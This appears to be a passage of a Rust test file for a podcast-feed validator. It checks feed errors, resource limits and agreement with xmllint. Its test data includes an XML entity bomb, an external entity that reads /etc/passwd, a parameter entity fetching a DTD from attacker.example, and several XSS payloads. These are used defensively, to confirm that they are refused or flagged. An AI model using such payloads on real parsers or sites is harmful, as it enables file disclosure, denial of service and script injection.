        "<itunes:duration>138<",
        "<itunes:duration>137<",
        1,
    )));
    assert!(!found.iter().any(|(c, _)| c == "F403"), "{found:?}");

    // A chapters file that is not there.
    check(&feed);
    let chapters_dir = show.path().join("public/chapters");
    for f in std::fs::read_dir(&chapters_dir).unwrap() {
        std::fs::remove_file(f.unwrap().path()).unwrap();
    }
    let found = json_codes(&check(&feed));
    assert!(
        found
            .iter()
            .any(|(c, m)| c == "F404" && m.contains("chapters")),
        "{found:?}"
    );

    // Audio that is not audio.
    std::fs::write(&mp3, "this is not an MP3").unwrap();
    let found = json_codes(&check(&feed));
    assert!(found.iter().any(|(c, _)| c == "F406"), "{found:?}");
    assert!(found.iter().any(|(c, _)| c == "F401"), "{found:?}");
}

#[test]
fn media_folder_maps_the_media_base_url() {
    let (show, feed) = example_feed();
    std::fs::write(
        show.path().join("public/feed.xml"),
        feed.replacen("length=\"", "length=\"9", 1),
    )
    .unwrap();
    let out = validate_show_feed(&show, &["--media", "media"]);
    assert_eq!(out.status.code(), Some(1));
    let found = json_codes(&out);
    assert!(found.iter().any(|(c, _)| c == "F401"), "{found:?}");
}

#[test]
fn artwork_that_breaks_apples_rules_is_caught_locally() {
    if !crate::support::have_tool("ffmpeg") {
        return;
    }
    let (show, _feed) = example_feed();
    // A 600×600 JPEG made by ffmpeg: Apple asks for 1400–3000 pixels.
    let cover = show.path().join("media/cover.jpg");
    let status = std::process::Command::new("ffmpeg")
        .args([
            "-loglevel",
            "error",
            "-y",
            "-f",
            "lavfi",
            "-i",
            "color=c=red:s=600x600",
            "-frames:v",
            "1",
        ])
        .arg(&cover)
        .status()
        .unwrap();
    assert!(status.success());
    let out = validate_show_feed(&show, &["--media", "media"]);
    let found = json_codes(&out);
    // The channel and the episode share the cover: one finding for the one file.
    let artwork: Vec<&(String, String)> = found.iter().filter(|(c, _)| c == "F405").collect();
    assert_eq!(artwork.len(), 1, "{found:?}");
    assert!(artwork[0].1.contains("600"), "{found:?}");
    assert_eq!(out.status.code(), Some(1));
}

/// Runs the validator on a worker thread; a hang is a failure after `limit` (a guard against hangs, not a
/// speed check: every case here finishes in well under a second).
fn validate_with_hang_guard(name: &str, bytes: Vec<u8>, limit: Duration) -> Vec<Diagnostic> {
    let (tx, rx) = std::sync::mpsc::channel();
    let owned = name.to_owned();
    std::thread::spawn(move || {
        let _ = tx.send(validate_bytes(&owned, &bytes, &options()));
    });
    match rx.recv_timeout(limit) {
        Ok(found) => found,
        Err(std::sync::mpsc::RecvTimeoutError::Timeout) => {
            panic!("{name}: no verdict after {limit:?}")
        }
        Err(std::sync::mpsc::RecvTimeoutError::Disconnected) => {
            panic!("{name}: the validator panicked")
        }
    }
}

fn codes(found: &[Diagnostic]) -> Vec<&'static str> {
    found.iter().map(|d| d.code()).collect()
}

#[test]
fn every_corpus_feed_gets_a_verdict_without_panic_or_hang() {
    let Some(shared) = shared_dir() else { return };
    let files = files_under(&shared.join("corpus/feeds"));
    assert!(files.len() > 1000, "the corpus has {} files", files.len());
    let started = Instant::now();
    let mut with_errors = 0;
    for path in &files {
        let bytes = std::fs::read(path).unwrap();
        let found =
            validate_with_hang_guard(&path.display().to_string(), bytes, Duration::from_secs(60));
        with_errors += usize::from(found.iter().any(Diagnostic::is_error));
    }
    eprintln!(
        "validated {} corpus files in {:.1?}; {with_errors} have errors (most are not podcast feeds)",
        files.len(),
        started.elapsed()
    );
}

/// Corpus files where castkit's XML verdict differs from xmllint's on purpose.
const XMLLINT_DIFFERENCES: &[(&str, &str)] = &[
    (
        "feedparser/wellformed/rss/entity_in_doctype.xml",
        "declares an entity in its DTD: castkit refuses entity declarations unexpanded (F004)",
    ),
    (
        "w3c-feedvalidator/rss/should/system_entity.xml",
        "an external (SYSTEM) entity: castkit refuses it without fetching (F004)",
    ),
    (
        "w3c-feedvalidator/rss/should/system_entity_http.xml",
        "an external (SYSTEM) entity over http: castkit refuses it without fetching (F004)",
    ),
    (
        "w3c-feedvalidator/rss/must/missing_rss2.xml",
        "an HTML page: castkit says so (F101) before judging its XML, which xmllint rejects",
    ),
    (
        "feedparser/illformed/http_high_bit_date.xml",
        "ISO-8859-7: castkit reads UTF-8, UTF-16, ISO-8859-1, Windows-1252 and US-ASCII only (F002 says to save as UTF-8, which Apple requires)",
    ),
    (
        "w3c-feedvalidator/rss/should/xml_obscure_encoding.xml",
        "mac-cyrillic: not an encoding castkit reads (F002)",
    ),
    (
        "w3c-feedvalidator/rss/must/rss91n_deprecated.xml",
        "HTML entities declared only in the external RSS 0.91 DTD, which castkit never fetches (F001)",
    ),
    (
        "w3c-feedvalidator/rss/must/rss91n_entity.xml",
        "HTML entities declared only in the external RSS 0.91 DTD, which castkit never fetches (F001)",
    ),
    (
        "w3c-feedvalidator/rss/must/rss91rab.xml",
        "HTML entities declared only in the external RSS 0.91 DTD, which castkit never fetches (F001)",
    ),
    (
        "w3c-feedvalidator/rss/must/xml_utf-8_bom_with_ascii_declaration.xml",
        "a UTF-8 byte-order mark with `encoding=\"us-ascii\"`: castkit reports the contradiction (F002)",
    ),
    (
        "w3c-feedvalidator/rss/must/xmlversion_11.xml",
        "XML 1.1: feed readers read XML 1.0 (F001)",
    ),
    (
        "w3c-feedvalidator/rss/should/xml_bad_encoding_declaration.xml",
        "ISO-8859-1 with bytes 0x80–0x9F, which are Windows-1252 quotes mislabelled (F002)",
    ),
    (
        "w3c-feedvalidator/rss/should/xml_double_encoded.xml",
        "UTF-8 bytes labelled ISO-8859-1, which readers show as mojibake (F002)",
    ),
    (
        "w3c-feedvalidator/rss/should/xml_double_encoded2.xml",
        "UTF-8 bytes labelled ISO-8859-1, which readers show as mojibake (F002)",
    ),
];

/// The verdict of castkit's XML layer agrees with libxml2's (`xmllint --nonet`, which fetches nothing) on
/// whether each corpus feed is well-formed.
#[test]
fn well_formedness_agrees_with_xmllint_on_the_corpus() {
    let Some(shared) = shared_dir() else { return };
    if !crate::support::have_tool("xmllint") {
        return;
    }
    // castkit's "no": the XML is broken (F001, F002, F007), or castkit refuses the file before parsing it:
    // entity declarations (F004, the XML-bomb vector), size and nesting limits (F005, F006, F009). Every
    // file is compared; where castkit refuses what xmllint accepts, the file is listed above with why.
    let refused = ["F001", "F002", "F004", "F005", "F006", "F007", "F009"];
    let mut compared = 0;
    let mut differ = Vec::new();
    let corpus = shared.join("corpus/feeds");
    for path in files_under(&corpus) {
        let name = path.strip_prefix(&corpus).unwrap().display().to_string();
        let bytes = std::fs::read(&path).unwrap();
        let found = codes(&validate_bytes("f", &bytes, &options()));
        let xmllint = std::process::Command::new("xmllint")
            .args(["--noout", "--nonet", "--nowarning"])
            .arg(&path)
            .output()
            .unwrap();
        // xmllint reports an undeclared namespace prefix as a namespace error but still exits 0.
        let xmllint_ok = xmllint.status.success()
            && !String::from_utf8_lossy(&xmllint.stderr).contains("namespace error");
        let castkit_ok = !found.iter().any(|c| refused.contains(c));
        compared += 1;
        if xmllint_ok != castkit_ok {
            eprintln!("  differs: {name} (xmllint ok: {xmllint_ok}; castkit: {found:?})");
            differ.push(name);
        }
    }
    eprintln!(
        "well-formedness: {} of {compared} corpus files agree with xmllint",
        compared - differ.len()
    );
    let actual: BTreeSet<&str> = differ.iter().map(String::as_str).collect();
    let documented: BTreeSet<&str> = XMLLINT_DIFFERENCES.iter().map(|(n, _)| *n).collect();
    let new: Vec<&&str> = actual.difference(&documented).collect();
    let stale: Vec<&&str> = documented.difference(&actual).collect();
    assert!(
        new.is_empty(),
        "castkit and xmllint now disagree on: {new:?}"
    );
    assert!(
        stale.is_empty(),
        "these documented differences no longer happen; remove them: {stale:?}"
    );
}

#[test]
fn entity_bombs_and_external_entities_are_refused_unexpanded() {
    let bomb = {
        let mut s = String::from("<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY a0 \"lol\">");
        for i in 1..10 {
            s.push_str(&format!(
                "<!ENTITY a{i} \"{}\">",
                format!("&a{};", i - 1).repeat(10)
            ));
        }
        s.push_str("]><rss version=\"2.0\"><channel><title>&a9;</title></channel></rss>");
        s
    };
    let external = "<!DOCTYPE rss [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><rss version=\"2.0\"><channel><title>&x;</title></channel></rss>";
    let parameter = "<!DOCTYPE rss [<!ENTITY % p SYSTEM \"https://attacker.example/x.dtd\"> %p;]><rss version=\"2.0\"/>";
    for (name, feed) in [
        ("bomb", bomb.as_str()),
        ("external", external),
        ("parameter", parameter),
    ] {
        let found =
            validate_with_hang_guard(name, feed.as_bytes().to_vec(), Duration::from_secs(60));
        assert_eq!(codes(&found), vec!["F004"], "{name}");
        assert!(
            !found.iter().any(|d| d.message.contains("root:")),
            "{name}: a local file's text leaked"
        );
    }
}

#[test]
fn huge_deep_dense_and_undecodable_feeds_get_a_clear_verdict() {
    // Nested a million levels deep: refused by a scan, before any tree is built.
    let deep = format!("<rss>{}", "<a>".repeat(1_000_000));
    let found = validate_with_hang_guard("deep", deep.into_bytes(), Duration::from_secs(60));
    assert!(codes(&found).contains(&"F006"), "{:?}", codes(&found));

    // Ten million empty elements in 40 MB.
    let dense = format!(
        "<rss version=\"2.0\"><channel>{}</channel></rss>",
        "<a/>".repeat(10_000_000)
    );
    let found = validate_with_hang_guard("dense", dense.into_bytes(), Duration::from_secs(60));
    assert!(codes(&found).contains(&"F009"), "{:?}", codes(&found));

    // Invalid UTF-8 on line 3: the finding names the byte offset and the line.
    let mut bad = b"<rss version=\"2.0\">\n<channel>\n<title>caf".to_vec();
    let offset = bad.len();
    bad.extend_from_slice(b"\xE9</title></channel></rss>");
    let found = validate_with_hang_guard("latin1", bad, Duration::from_secs(60));
    assert_eq!(codes(&found), vec!["F002"]);
    assert!(
        found[0].message.contains(&format!("offset {offset}")),
        "{}",
        found[0].message
    );
    assert_eq!(found[0].location.as_ref().map(|l| l.line), Some(3));

    // Binary files: a PNG, gzip, random bytes. Each gets an error, none a panic.
    let mut seed: u64 = 0x9E37_79B9_7F4A_7C15;
    let random: Vec<u8> = (0..1 << 20)
        .map(|_| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed as u8
        })
        .collect();
    for (name, bytes) in [
        ("png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec()),
        ("gzip", b"\x1f\x8b\x08\0\0\0\0\0".to_vec()),
        ("random", random),
    ] {
        let found = validate_with_hang_guard(name, bytes, Duration::from_secs(60));
        assert!(
            found.iter().any(Diagnostic::is_error),
            "{name}: {:?}",
            codes(&found)
        );
    }
}

#[test]
fn a_feed_over_the_size_limit_is_refused_without_reading_it_all() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("huge.xml");
    // 200 MB of real items.
    let block = "<item><title>An episode</title><guid>x</guid></item>\n".repeat(20_000);
    let mut w = std::io::BufWriter::new(std::fs::File::create(&path).unwrap());
    use std::io::Write;
    w.write_all(b"<rss version=\"2.0\"><channel>\n").unwrap();
    for _ in 0..200_000_000 / block.len() + 1 {
        w.write_all(block.as_bytes()).unwrap();
    }
    w.write_all(b"</channel></rss>\n").unwrap();
    drop(w);
    assert!(std::fs::metadata(&path).unwrap().len() >= 200_000_000);
    let out = castkit()
        .args(["validate", "--format", "json"])
        .arg(&path)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let found = json_codes(&out);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].0, "F005");
    assert!(found[0].1.contains("64 MB"), "{}", found[0].1);
}

#[test]
fn a_feed_with_a_defect_in_every_item_reports_a_bounded_number_of_findings() {
    let item = "<item><title>t</title><guid>g{}</guid><pubDate>yesterday</pubDate><enclosure url='https://e.com/{}.mp3' length='1' type='audio/mpeg'/></item>";
    let items: String = (0..5000)
        .map(|i| item.replace("{}", &i.to_string()))
        .collect();
    let feed = format!(
        "<rss version='2.0'><channel><title>t</title><link>https://e.com/</link><description>d</description>{items}</channel></rss>"
    );
    let found = validate_bytes("f.xml", feed.as_bytes(), &options());
    let dates: Vec<&Diagnostic> = found.iter().filter(|d| d.code() == "F116").collect();
    assert_eq!(dates.len(), castkit::validate::MAX_FINDINGS_PER_RULE + 1);
    let summary = dates
        .iter()
        .find(|d| d.message.contains("not shown"))
        .expect("a closing count");
    assert!(summary.message.starts_with(&format!(
        "{} more",
        5000 - castkit::validate::MAX_FINDINGS_PER_RULE
    )));
}

/// HTML that a string search let through (F126): each item's show notes hide a script in a way a browser
/// still reads, and each finding points at that item's element. Notes that only look like a tag
/// (`<scriptingNews>`) or link to the web pass.
#[test]
fn unsafe_html_is_found_as_a_browser_tokenizes_it() {
    let cases: &[(&str, &str, bool)] = &[
        ("content:encoded", "<p>Hi</p><svg/onload=alert(1)>", true),
        ("description", "<IMG SRC=x OnError=alert(1)>", true),
        ("description", "<a href=javascript:alert(1)>x</a>", true),
        (
            "content:encoded",
            "<a href=\" javascript:alert(1)\">x</a>",
            true,
        ),
        (
            "description",
            "<img src=\"java&#115;cript:alert(1)\">",
            true,
        ),
        ("description", "<scriptingNews>", false),
        (
            "content:encoded",
            "<p><a href=\"https://example.com/?a=1&amp;b=2\">notes</a> &lt;script&gt;</p>",
            false,
        ),
    ];
    let mut feed = String::from(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
         <rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\">\n\
         <channel>\n<title>Notes</title>\n<link>https://example.com/</link>\n\
         <description>Show notes.</description>\n",
    );
    let mut lines = Vec::new();
    for (i, (element, html, _)) in cases.iter().enumerate() {
        feed.push_str(&format!(
            "<item>\n<title>Episode {i}</title>\n<guid isPermaLink=\"false\">e{i}</guid>\n"
        ));
        lines.push(feed.lines().count() + 1);
        feed.push_str(&format!(
            "<{element}><![CDATA[{html}]]></{element}>\n</item>\n"
        ));
    }
    feed.push_str("</channel>\n</rss>\n");
    let found = validate_bytes("feed.xml", feed.as_bytes(), &options());
    let unsafe_lines: Vec<usize> = found
        .iter()
        .filter(|d| d.code() == "F126")
        .filter_map(|d| d.location.as_ref().map(|l| l.line))
        .collect();
    let expected: Vec<usize> = cases
        .iter()
        .zip(&lines)
        .filter(|((_, _, hostile), _)| *hostile)
        .map(|(_, line)| *line)
        .collect();
    assert_eq!(unsafe_lines, expected, "{feed}\n{found:#?}");
}
